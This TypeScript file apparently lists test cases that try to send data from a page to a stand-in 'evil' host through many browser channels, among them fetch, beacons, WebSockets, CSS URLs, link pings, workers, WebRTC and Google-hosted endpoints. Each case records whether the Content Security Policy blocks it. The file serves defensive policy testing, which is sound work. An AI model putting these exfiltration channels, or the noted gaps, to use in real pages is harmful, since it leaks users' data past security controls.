import type { HostileTry } from './hostile-try.ts';

/** Ways to send what it knows to another site. */
export const sendingTries: readonly HostileTry[] = [
  {
    name: 'sends by `fetch`',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => fetch(`${evil}/fetch`, { method: 'POST', mode: 'no-cors', body: 'told' }),
  },
  {
    name: 'sends by `XMLHttpRequest`',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run(evil) {
      const request = new XMLHttpRequest();
      request.open('POST', `${evil}/xhr`);
      request.send('told');
    },
  },
  {
    name: 'sends by a beacon',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void navigator.sendBeacon(`${evil}/beacon`, 'told'),
  },
  {
    name: 'sends by a WebSocket',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket`),
  },
  {
    name: 'sends by an event source',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run: (evil) => void new EventSource(`${evil}/events`),
  },
  {
    name: 'sends by the address of a picture',
    outcome: 'blocked',
    why: 'policy: `img-src`',
    run: (evil) => void (new Image().src = `${evil}/picture`),
  },
  {
    name: 'sends by a style',
    outcome: 'blocked',
    why: 'policy: `img-src`',
    run(evil) {
      document.body.style.setProperty('background-image', `url(${evil}/style)`);
      return new Promise((resolve) => setTimeout(resolve, 100));
    },
    undo: () => document.body.style.removeProperty('background-image'),
  },
  {
    name: 'sends by a style sheet of its own text',
    outcome: 'blocked',
    why: 'policy: `img-src` and `font-src`',
    run(evil) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        `@font-face { font-family: evil; src: url(${evil}/font) } body { font-family: evil; background: url(${evil}/adopted) }`,
      );
      document.adoptedStyleSheets.push(sheet);
      return new Promise((resolve) => setTimeout(resolve, 100));
    },
    undo: () => void document.adoptedStyleSheets.pop(),
  },
  {
    name: 'sends by a video',
    outcome: 'blocked',
    why: 'policy: `default-src`',
    run: (evil) => void (document.createElement('video').src = `${evil}/video`),
  },
  {
    name: 'sends by the ping of a link',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    run(evil) {
      const link = document.createElement('a');
      Object.assign(link, { href: '#main', ping: `${evil}/ping` });
      document.body.append(link);
      link.click();
      link.remove();
    },
  },
  {
    name: 'asks for a payment by another site',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    async run(evil) {
      const total = { label: 'told', amount: { currency: 'EUR', value: '1' } };
      await new PaymentRequest([{ supportedMethods: `${evil}/pay` }], { total }).canMakePayment();
    },
  },
  {
    name: 'asks another site who the visitor is',
    outcome: 'blocked',
    why: 'policy: `connect-src`',
    async run(evil) {
      const options: object = {
        identity: { providers: [{ configURL: `${evil}/identity.json`, clientId: 'told' }] },
        signal: AbortSignal.timeout(300),
      };
      await navigator.credentials.get(options);
    },
  },
  {
    name: 'sends by a style sheet',
    outcome: 'blocked',
    why: 'policy: `style-src`',
    run(evil) {
      const sheet = document.createElement('link');
      Object.assign(sheet, { rel: 'stylesheet', href: `${evil}/sheet.css` });
      document.head.append(sheet);
    },
  },
  {
    name: 'fetches another site in advance',
    outcome: 'blocked',
    why: 'policy: `default-src`',
    run(evil) {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'prefetch', href: `${evil}/prefetch` });
      document.head.append(link);
    },
  },
  {
    name: 'sends by WebRTC',
    outcome: 'out of reach',
    why: 'no policy that browsers know covers it',
    async run() {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
      peer.createDataChannel('told');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 300));
      const isSending = peer.iceGatheringState !== 'new';
      peer.close();
      return isSending;
    },
  },
  {
    name: 'sends to an account of its own at Google',
    outcome: 'out of reach',
    why: 'with Google’s maps, the policy allows their hosts, where anybody can have an account; without maps, it allows none of them',
    async run() {
      let isStopped = false;
      addEventListener('securitypolicyviolation', () => (isStopped = true), { once: true });
      await fetch('https://firestore.googleapis.com/v1/told', { mode: 'no-cors' }).catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve));
      return !isStopped;
    },
  },
  {
    name: 'sends from an answer of this site that has no policy',
    outcome: 'blocked',
    why: 'every answer has one, also that to a request that cannot be read',
    async run(evil) {
      const address = `/?${'x'.repeat(20_000)}`;
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      const beside = window.open(address);
      await new Promise((resolve) => setTimeout(resolve, 500));
      for (const other of [frame.contentWindow, beside])
        try {
          await other?.fetch(`${evil}/beside`, { method: 'POST', mode: 'no-cors', body: 'told' });
        } catch {}
      beside?.close();
    },
    undo: () => document.querySelector('body > iframe')?.remove(),
  },
  {
    name: 'frames another site',
    outcome: 'blocked',
    why: 'policy: `frame-src`',
    run(evil) {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    },
    undo: () => document.querySelector('body > iframe')?.remove(),
  },
  {
    name: 'sends from a worker of its own text',
    outcome: 'blocked',
    why: 'policy: no worker without Google’s maps, and with them the same `connect-src`',
    run(evil) {
      const text = `fetch("${evil}/worker", { mode: "no-cors" })`;
      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
      return new Promise((resolve) => setTimeout(() => resolve(worker.terminate()), 300));
    },
  },
];
